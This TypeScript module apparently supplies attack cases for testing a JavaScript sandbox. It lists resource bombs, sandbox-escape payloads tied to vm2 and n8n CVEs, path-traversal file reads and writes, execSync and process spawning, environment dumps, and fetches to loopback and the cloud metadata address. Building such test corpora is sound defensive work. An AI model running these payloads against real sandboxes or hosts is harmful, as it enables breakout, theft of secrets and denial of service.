import type { Attack } from './attack.js';

const bombs: readonly [string, string][] = [
  ['an endless loop', 'for (;;);'],
  [
    'a memory bomb on the heap',
    'const kept = []; for (;;) kept.push({ text: "x" + kept.length, list: [1, 2, 3] });',
  ],
  ['a memory bomb off the heap', 'const kept = []; for (;;) kept.push(new Uint8Array(1e7).fill(1));'],
  ['a text that doubles', 'let text = "xx"; for (;;) text += text;'],
  ['a deep recursion', 'const deep = () => deep() + 1; deep();'],
  ['a recursion through toString', 'const loop = { toString: () => "" + loop }; String(loop);'],
  ['a regular expression that backtracks', '/^(a+)+$/.test("a".repeat(50) + "b");'],
  ['a native call that does not yield', 'new Array(2 ** 31).join("xx").length; [].concat(...Array(1e9));'],
  ['a large power', '2n ** (2n ** 40n);'],
  ['promises without end', 'const go = () => Promise.resolve().then(go); await go(); for (;;) await 0;'],
];

const JS = 'javascript';

/** Looks for an object of the host in a value, or in what a function of another realm returns. */
const LOOK = `
const look = (value) => {
  try {
    const made = typeof value === 'function' ? value('return typeof process === "object" ? process : undefined')() : value;
    if (made && (made.env || made.pid || made.mainModule)) console.log('BREACH ' + JSON.stringify(made.env));
  } catch {}
};`;

/** Ways out of sandboxes that share the engine of the host, each as it was published for vm2, n8n or their like. */
const escapes: readonly [string, string][] = [
  [
    'the constructor of a constructor (vm)',
    'look(this?.constructor?.constructor); look(globalThis.constructor.constructor);',
  ],
  [
    'a function of the host (vm2, console.log)',
    'look(console.log.constructor); look(writeFile.constructor);',
  ],
  [
    'the stack of an error (CVE-2022-36067)',
    'Error.prepareStackTrace = (_, frames) => frames.forEach((frame) => look(frame.getThis?.()?.process ?? frame.getFunction?.()?.constructor)); void new Error().stack; const Own = Error; globalThis.Error = { prepareStackTrace: Error.prepareStackTrace }; try { null.x } catch (error) { look(error.constructor.constructor); } globalThis.Error = Own;',
  ],
  [
    'an error of an async stack (CVE-2023-29017)',
    'Error.prepareStackTrace = (error, frames) => look(frames.constructor?.constructor); await (async () => { await 0; throw new Error("x"); })().catch((error) => { void error.stack; look(error.constructor.constructor); });',
  ],
  [
    'an error that the sandbox did not wrap (CVE-2023-29199)',
    'const f = () => f(); try { f(); } catch (error) { look(error.constructor.constructor); } try { readFile(Symbol()); } catch (error) { look(error.constructor.constructor); }',
  ],
  [
    'a proxy that throws in getPrototypeOf (CVE-2023-30547)',
    'const error = new Error(); error.name = { toString: new Proxy(() => "", { apply: (_, self, args) => look(args.constructor.constructor) }) }; const trap = new Proxy({}, { getPrototypeOf: () => { throw { get constructor() { return console.log.constructor; } }; } }); try { trap instanceof Object; } catch (thrown) { look(thrown.constructor); } try { void error.stack; String(error); } catch {}',
  ],
  [
    'a proxy as a function (CVE-2023-32314)',
    'const error = new Error(); error.name = { toString: new Proxy((...args) => look(args.constructor.constructor), { apply: (target, self, args) => { look(args.constructor.constructor); return ""; } }) }; try { error.stack; } catch (thrown) { look(thrown.constructor.constructor); } try { readFile(error); } catch (thrown) { look(thrown.constructor.constructor); }',
  ],
  [
    'the species of a promise (CVE-2023-37466)',
    'class Spy extends Promise { static get [Symbol.species]() { return function (run) { run((value) => look(value?.constructor?.constructor), (error) => look(error?.constructor?.constructor)); }; } } await Promise.race([new Spy((_, no) => no(new Error())).then(() => 0), 0]); const pending = (async () => { throw new RangeError(); })(); pending.constructor = { [Symbol.species]: Spy }; await pending.then(0, (error) => look(error.constructor.constructor));',
  ],
  [
    'the inspection of a value (CVE-2023-37903)',
    'console.log({ [Symbol.for("nodejs.util.inspect.custom")]: (depth, options, inspect) => { look(inspect?.constructor); look(options?.constructor?.constructor); return ""; } });',
  ],
  [
    'a method of a collection (CVE-2022-25893)',
    'const { set } = WeakMap.prototype; WeakMap.prototype.set = function (key, value) { look(key?.constructor?.constructor); look(value?.constructor?.constructor); return set.call(this, key, value); }; Map.prototype.get = function () { look(this.constructor.constructor); }; try { writeFile("a.txt", "b"); readFile("a.txt"); } catch {}',
  ],
  [
    'an import (CVE-2021-23449)',
    'for (const name of ["node:fs", "fs", "node:child_process", "data:text/javascript,export default 1"]) try { const made = await import(name); console.log("BREACH " + name); } catch (error) { look(error.constructor.constructor); }',
  ],
  [
    'the caller of a function (vm2 1.x)',
    'const spy = function () { try { look(spy.caller?.constructor); look(arguments.callee.caller?.constructor); } catch {} return "x"; }; try { readFile({ toString: spy }); } catch {} JSON.stringify({ toJSON: spy });',
  ],
  [
    'a symbol of a class (vm2, hasInstance)',
    'const Spy = { [Symbol.hasInstance]: (value) => { look(value?.constructor?.constructor); return true; } }; globalThis.Error = Spy; globalThis.Map = Spy; console.log({}, [], null); try { null.x } catch (error) { look(error.constructor.constructor); }',
  ],
  [
    'a getter that a serializer calls (n8n, vm2)',
    'const spy = { get toJSON() { look(this?.constructor?.constructor); return undefined; }, get then() { look(this?.constructor?.constructor); return undefined; } }; console.log(spy); await spy;',
  ],
  [
    'the prototype of everything (n8n)',
    'Object.prototype.env = { polluted: 1 }; Object.prototype.shell = "/bin/sh"; Object.prototype.__defineGetter__("isOk", () => true); look(({}).constructor.constructor); delete Object.prototype.env; console.log(JSON.parse("{\\"__proto__\\": {\\"x\\": 1}}"));',
  ],
  [
    'main module of an expression (CVE-2025-68613)',
    'try { console.log("BREACH " + this.process.mainModule.require("child_process").execSync("env")); } catch {} try { console.log("BREACH " + globalThis.process.binding("fs")); } catch {} look((function () { return this; })()?.process);',
  ],
  [
    'a shadowed constructor (CVE-2026-1470)',
    'const constructor = "x"; look(Reflect.get(() => 0, "constr" + "uctor")); look((async () => 0).constructor); look(Object.getPrototypeOf(function* () {}).constructor); with_ = new Function("o", "with (o) return constructor"); look(with_(() => 0));',
  ],
  [
    'the helpers of the sandbox itself',
    'for (const name of Object.getOwnPropertyNames(globalThis)) { const value = globalThis[name]; if (typeof value === "function") look(value.constructor); if (!name.startsWith("__")) continue; try { globalThis[name] = 0; delete globalThis[name]; } catch {} if (globalThis[name] !== value) console.log("BREACH " + name); }',
  ],
];

export const JAVASCRIPT_ATTACKS: readonly Attack[] = [
  ...bombs.map(([name, code]): Attack => ({ name, language: JS, code: () => code, isBomb: true })),
  {
    name: 'an output of 100 MB',
    language: JS,
    code: () => 'const line = "x".repeat(1e6); for (let i = 0; i < 100; i++) console.log(line);',
  },
  {
    name: 'a file of the host',
    language: JS,
    code: ({ file }) =>
      `const name = ${JSON.stringify(file)}; try { console.log('BREACH ' + readFile('../../../../..' + name)); } catch {} try { console.log('BREACH ' + readFile(name)); } catch {} try { console.log('BREACH ' + process.getBuiltinModule('fs').readFileSync(name, 'utf8')); } catch {}`,
    hasControl: true,
  },
  {
    name: 'a file written on the host',
    language: JS,
    code: ({ trace }) =>
      `const name = ${JSON.stringify(trace)}; try { writeFile('../../../../..' + name, 'x'); } catch {} try { writeFile(name, 'x'); } catch {} try { process.getBuiltinModule('fs').writeFileSync(name, 'x'); } catch {}`,
    hasControl: true,
  },
  {
    name: 'processes and threads without end',
    language: JS,
    code: () =>
      'for (let i = 0; i < 1e4; i++) { try { new Worker("for (;;);"); console.log("BREACH"); } catch {} try { process.getBuiltinModule("child_process").spawn("sleep", ["987"]); console.log("BREACH"); } catch {} try { os.fork(); console.log("BREACH"); } catch {} try { os.exec(["sleep", "987"], { block: false }); console.log("BREACH"); } catch {} }',
  },
  {
    name: 'the environment',
    language: JS,
    code: () => 'try { console.log("BREACH " + JSON.stringify(process.env)); } catch {}',
    hasControl: true,
  },
  {
    name: 'a socket to the loopback and the metadata address',
    language: JS,
    code: ({ port }) =>
      `for (const place of ['127.0.0.1:${String(port)}', '169.254.169.254']) try { await fetch('http://' + place); console.log('BREACH'); } catch {}`,
    hasControl: true,
  },
  ...escapes.map(([name, code]): Attack => ({
    name,
    language: JS,
    code: () => `${LOOK}\n${code}\nreturn 0;`,
  })),
];
